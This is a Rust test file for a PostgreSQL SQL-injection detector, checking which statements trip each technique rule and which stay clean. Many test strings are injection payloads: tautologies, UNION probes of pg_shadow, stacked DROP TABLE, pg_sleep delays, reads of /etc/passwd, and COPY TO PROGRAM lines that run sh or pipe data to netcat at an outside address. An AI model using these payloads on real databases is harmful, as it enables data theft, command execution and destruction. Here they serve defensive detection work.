//! The rules on statements as applications and attackers write them.

use std::collections::BTreeSet;

use super::*;
use crate::sql::{Facts, Statement};

fn look(text: &str) -> Signals {
    let tree = pg_query::parse(text, 0).unwrap_or_else(|e| panic!("{text}: {e}")).protobuf;
    signals(text, &Analysis { tree, facts: Facts::default() })
}

fn techniques(text: &str) -> Vec<Technique> {
    look(text).signals.iter().map(|s| s.technique).collect()
}

/// Runs on a stack as large as the workers' (parsing and dropping a deep tree recurses).
fn on_a_large_stack(test: impl FnOnce() + Send + 'static) {
    let thread = std::thread::Builder::new().stack_size(crate::sql::STACK).spawn(test).expect("a thread");
    thread.join().expect("the test must pass");
}

#[track_caller]
fn shows(technique: Technique, texts: &[&str]) {
    for text in texts {
        assert!(techniques(text).contains(&technique), "{technique:?} not seen in {text}: {:?}", look(text));
    }
}

#[track_caller]
fn nothing(texts: &[&str]) {
    for text in texts {
        assert_eq!(look(text), Signals::default(), "{text}");
    }
}

#[test]
fn every_technique_has_a_name_and_a_sentence_of_its_own() {
    let names: BTreeSet<_> = Technique::ALL.iter().map(|t| t.as_str()).collect();
    let sentences: BTreeSet<_> = Technique::ALL.iter().map(|t| t.explain()).collect();
    assert_eq!((names.len(), sentences.len()), (Technique::ALL.len(), Technique::ALL.len()));
    for sentence in sentences {
        assert!(!sentence.contains("  ") && !sentence.ends_with('.'), "{sentence}");
    }
}

#[test]
fn constant_true() {
    shows(
        Technique::ConstantTrue,
        &[
            "SELECT * FROM users WHERE name = '' OR 1=1",
            "SELECT * FROM users WHERE name = '' OR 'a'='a'",
            "SELECT * FROM users WHERE name = '' OR '1'=1",
            "SELECT * FROM users WHERE name = '' OR 2+2=4",
            "SELECT * FROM users WHERE name = '' OR 'ab' = 'a'||'b'",
            "SELECT * FROM users WHERE name = '' OR id=id",
            "SELECT * FROM users u WHERE name = '' OR u.id >= u.id",
            "SELECT * FROM users WHERE name = '' OR 1 IN (3, 2, 1)",
            "SELECT * FROM users WHERE name = '' OR 2 BETWEEN 1 AND 3",
            "SELECT * FROM users WHERE name = '' OR 'x' LIKE '%'",
            "SELECT * FROM users WHERE name = '' OR NULL IS NULL",
            "SELECT * FROM users WHERE name = '' OR true",
            "SELECT * FROM users WHERE name = '' OR 1::bool",
            "SELECT * FROM users WHERE name = '' OR NOT 1=2",
            "SELECT * FROM users WHERE name = '' OR (1=1) IS TRUE",
            "SELECT * FROM users WHERE name = '' OR 1 IS NOT DISTINCT FROM 1",
            "SELECT * FROM users WHERE name = 'admin' OR 1=1 AND password = 'x'",
            "SELECT * FROM users WHERE name IN (SELECT n FROM x WHERE n = 1 OR 1=1)",
            "UPDATE users SET admin = true WHERE id = 5 OR 7>3",
            "INSERT INTO comments (body) SELECT 'x' FROM users WHERE id = 1 OR 1=1",
            "SELECT id FROM products WHERE id = 1 HAVING 1=1",
        ],
    );
    nothing(&[
        "SELECT * FROM users WHERE 1=1 AND name = $1",
        "SELECT * FROM users WHERE 1=1",
        "SELECT * FROM users WHERE 1=0",
        "SELECT * FROM users WHERE name = $1 OR name = $2",
        "SELECT * FROM users WHERE ($1 IS NULL OR name = $1)",
        "SELECT * FROM users WHERE $1 = $2 OR id = 3",
        "SELECT * FROM users WHERE a = b OR c = d",
        "SELECT * FROM users u JOIN users v ON u.id = v.id OR u.id > v.id",
        "SELECT * FROM users WHERE id = 1 OR active",
        "SELECT * FROM users WHERE active OR FALSE",
        "SELECT 1 = 1 OR 2 = 2",
        "SELECT * FROM users GROUP BY name HAVING count(*) > 1",
    ]);
    // What never holds opens nothing: it is told, but weighs little.
    assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=2").score(), 1);
    assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=1").score(), 5);
}

#[test]
fn h7_a_statement_is_no_fragment() {
    // What libinjection takes for an injection.
    nothing(&[
        "Select * from Monitor where ID=1",
        "SELECT a FROM t WHERE b = 1 AND c = 'x'",
        "SELECT count(*) FROM t GROUP BY a ORDER BY 1",
    ]);
    // What it doesn't.
    for text in [
        "SELECT * FROM t WHERE id = 1 or true",
        "SELECT * FROM t WHERE id = 1 OR 1::bool",
        "SELECT * FROM t WHERE name = '' OR $$a$$ = $x$a$x$",
        "SELECT * FROM t WHERE id = 1 OR NOT 1 <> 1",
    ] {
        assert!(techniques(text).contains(&Technique::ConstantTrue), "{text}");
    }
    assert!(techniques("SELECT 1; DROP TABLE t").contains(&Technique::StackedStatements));
}

#[test]
fn union_probe() {
    shows(
        Technique::UnionProbe,
        &[
            "SELECT id, name FROM products WHERE id = 1 UNION ALL SELECT NULL, NULL",
            "SELECT id, name FROM products WHERE id = 1 UNION SELECT 1, (SELECT password FROM users LIMIT 1)",
            "SELECT id, name FROM products UNION SELECT 1, 'a'||version()",
            "SELECT id, name FROM products UNION SELECT 1, 2 UNION SELECT NULL, NULL",
            "SELECT id, name FROM products UNION SELECT usesysid, passwd FROM pg_shadow",
            "SELECT id, name FROM products UNION SELECT 1, table_name FROM information_schema.tables",
            "SELECT id, name FROM products UNION SELECT 1, c.relname FROM pg_class c JOIN pg_namespace n ON true",
            "SELECT 1 UNION ALL SELECT 1, 2, 3",
            "SELECT * FROM (SELECT a FROM t UNION SELECT NULL) x",
        ],
    );
    nothing(&[
        "SELECT id FROM orders UNION SELECT id FROM archived_orders",
        "SELECT id FROM orders UNION ALL SELECT * FROM archived_orders",
        "SELECT 1 UNION SELECT 2",
        "VALUES (1) UNION VALUES (2)",
        "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 10) SELECT * FROM n",
        "SELECT relname FROM pg_class UNION SELECT 'none'",
        "SELECT a FROM t EXCEPT SELECT b FROM u",
    ]);
    assert_eq!(look("SELECT name FROM products UNION SELECT 'all'").score(), 3, "applications write it now and then");
}

#[test]
fn comment_truncation() {
    shows(
        Technique::CommentTruncation,
        &[
            "SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'",
            "SELECT * FROM users WHERE name = 'admin' -- ' AND password = 'x'",
            "SELECT * FROM users WHERE name = ''--",
            "SELECT * FROM users WHERE id = 1-- ",
            "SELECT * FROM users WHERE id = 1 -- AND owner = 3",
            "DELETE FROM carts WHERE id = 1 --, x = 3 WHERE id = 5",
            "SELECT id FROM t WHERE a IN (1)-- ) AND active",
            "SELECT id FROM t WHERE lower(a) = lower('x')-- ')",
        ],
    );
    nothing(&[
        "-- name: GetUser :one\nSELECT * FROM users WHERE id = $1",
        "SELECT * FROM users WHERE id = $1 /* controller='users',action='show' */",
        "SELECT * FROM users /* don't */ WHERE id = 1",
        "SELECT * FROM users WHERE id = $1 -- the owner doesn't matter here",
        "SELECT * FROM users WHERE active -- or should we ask for all of them",
        "SELECT * FROM users WHERE id = 1\n-- AND owner = 3",
        "SELECT * FROM users WHERE note = 'a -- b'",
        "SELECT * FROM users WHERE note = '--'",
        "-- only a remark",
        "",
    ]);
}

#[test]
fn stacked_statements() {
    shows(
        Technique::StackedStatements,
        &[
            "SELECT * FROM products WHERE id = 1; DROP TABLE users",
            "SELECT * FROM products WHERE id = 1; UPDATE users SET admin = true",
            "UPDATE carts SET qty = 1; SELECT password FROM users",
            "INSERT INTO t VALUES (1); SET ROLE postgres",
            "SELECT 1; COPY users TO PROGRAM 'sh'",
            "SELECT 1; DO $$ BEGIN END $$",
        ],
    );
    nothing(&[
        "SELECT 1; SELECT 2",
        "INSERT INTO t VALUES (1); INSERT INTO t VALUES (2)",
        "INSERT INTO t VALUES (1); SELECT lastval()",
        "BEGIN; SELECT 1; UPDATE t SET a = 1; CREATE TABLE x (); COMMIT",
        "CREATE TABLE x (); INSERT INTO x DEFAULT VALUES; SELECT 1",
        "UPDATE t SET a = 1; SET CONSTRAINTS ALL IMMEDIATE",
        "SELECT 1; COMMIT",
    ]);
}

#[test]
fn a_pools_release_batch_is_no_stack() {
    let text = "SELECT pg_advisory_unlock_all(); CLOSE ALL; UNLISTEN *; RESET ALL;";
    let tree = pg_query::parse(text, 0).expect("it parses").protobuf;
    let default_set = Statement { default_set: true, ..Statement::default() };
    let statements = vec![Statement::default(), default_set.clone(), default_set.clone(), default_set];
    assert_eq!(signals(text, &Analysis { tree, facts: Facts { statements, ..Facts::default() } }), Signals::default());
}

#[test]
fn time_delay() {
    shows(
        Technique::TimeDelay,
        &[
            "SELECT * FROM users WHERE id = 1 AND 1 = (SELECT 1 FROM pg_sleep(5))",
            "SELECT * FROM users WHERE id = (CASE WHEN 1=1 THEN (SELECT 1 FROM pg_catalog.pg_sleep(5)) END)",
            "SELECT 1; SELECT pg_sleep(5)",
            "SELECT * FROM users WHERE id = (SELECT count(*) FROM generate_series(1, 5000000))",
            "SELECT * FROM users WHERE id = sleep(5)",
        ],
    );
    nothing(&[
        "SELECT pg_sleep(1)",
        "SELECT * FROM generate_series(1, 5000000)",
        "SELECT * FROM t WHERE d IN (SELECT generate_series(1, 31))",
        "SELECT app.pg_sleep(5), x FROM t",
    ]);
}

#[test]
fn file_program() {
    shows(
        Technique::FileProgram,
        &[
            "SELECT * FROM users WHERE name = pg_read_file('/etc/passwd')",
            "SELECT * FROM pg_ls_dir('.')",
            "SELECT 1; SELECT lo_import('/etc/passwd')",
            "COPY t FROM PROGRAM 'id'",
            "COPY (SELECT 1) TO PROGRAM 'nc 10.0.0.1 1234'",
            "SELECT 1; COPY users TO '/tmp/out'",
            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
            "SELECT lo_get(id) FROM users",
            "SELECT name || load_file('/etc/passwd') FROM users",
        ],
    );
    nothing(&[
        "COPY t FROM STDIN",
        "COPY lineitem FROM '/tmp/lineitem.csv' WITH (FORMAT csv)",
        "SELECT lo_open(16400, 131072)",
        "SELECT loread(0, 16384)",
    ]);
}

#[test]
fn catalog_probe() {
    shows(
        Technique::CatalogProbe,
        &[
            "SELECT * FROM users WHERE id = 1 AND (SELECT count(*) FROM pg_tables) > 0",
            "SELECT * FROM users WHERE name = (SELECT table_name FROM information_schema.tables LIMIT 1)",
            "SELECT * FROM users WHERE substr(version(), 1, 10) = 'PostgreSQL'",
            "SELECT * FROM users WHERE name = current_setting('data_directory')",
            "SELECT * FROM users WHERE (SELECT @@version) = 'x'",
            "SELECT * FROM users WHERE id = (SELECT count(*) FROM sysobjects)",
            "SELECT * FROM users WHERE xml = (SELECT query_to_xml('select 1', true, true, ''))",
        ],
    );
    nothing(&[
        "SELECT version()",
        "SELECT n.nspname, c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace",
        "SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema()",
        "WITH c AS (SELECT * FROM pg_class) SELECT * FROM c",
        "SELECT * FROM orders WHERE tenant = current_setting('app.tenant')::int",
        "SELECT * FROM orders WHERE owner = current_user",
        "CREATE VIEW v AS SELECT o.*, version() FROM orders o, pg_class",
        "SELECT @@ box '((0,0),(1,1))' FROM shapes",
    ]);
}

#[test]
fn ordinary_statements_show_nothing() {
    nothing(&[
        "SELECT u.id, u.name FROM users u LEFT JOIN orders o ON o.user_id = u.id WHERE u.name ILIKE $1 LIMIT 20 OFFSET 40",
        "INSERT INTO notes (body) VALUES ('x'' OR 1=1 -- ; DROP TABLE users; UNION SELECT NULL')",
        "UPDATE t SET a = a + 1, b = now() WHERE id = 3 RETURNING *",
        "DELETE FROM t WHERE id = ANY ($1)",
        "INSERT INTO t (a) VALUES (1), (2) ON CONFLICT (a) DO UPDATE SET a = excluded.a",
        "BEGIN",
        "SET application_name = 'x'",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
    ]);
}

#[test]
fn signals_stand_once_and_add_up() {
    let found = look("SELECT * FROM u WHERE a = 1 OR 1=2 OR 1=1 UNION SELECT NULL; SELECT pg_sleep(9)--");
    let techniques: Vec<_> = found.signals.iter().map(|s| s.technique).collect();
    assert_eq!(
        techniques,
        [Technique::ConstantTrue, Technique::UnionProbe, Technique::CommentTruncation, Technique::TimeDelay]
    );
    assert_eq!(found.score(), 5 + 5 + 3 + 5);
}

#[test]
fn deep_and_wide_trees_are_walked() {
    on_a_large_stack(|| {
        let nested = format!("SELECT * FROM u WHERE {}a = 1 OR 1=1{}", "NOT (".repeat(1500), ")".repeat(1500));
        assert_eq!(techniques(&nested), [Technique::ConstantTrue]);
        let sums = format!("SELECT {}1 FROM u", "1 + ".repeat(3000));
        assert_eq!(techniques(&sums), []);
        let selects = format!("SELECT a FROM u{}", " UNION ALL SELECT a FROM u".repeat(2000));
        assert_eq!(techniques(&selects), []);
        let arms = format!("SELECT * FROM u WHERE a = 1{}", " OR a = 1".repeat(20_000));
        assert_eq!(techniques(&arms), []);
        // Alternating AND and OR, each within the other.
        let zigzag = format!("SELECT * FROM u WHERE {}1=1{}", "(1=1 AND (1=1 OR ".repeat(800), "))".repeat(800));
        assert_eq!(techniques(&zigzag), [Technique::ConstantTrue]);
    });
}
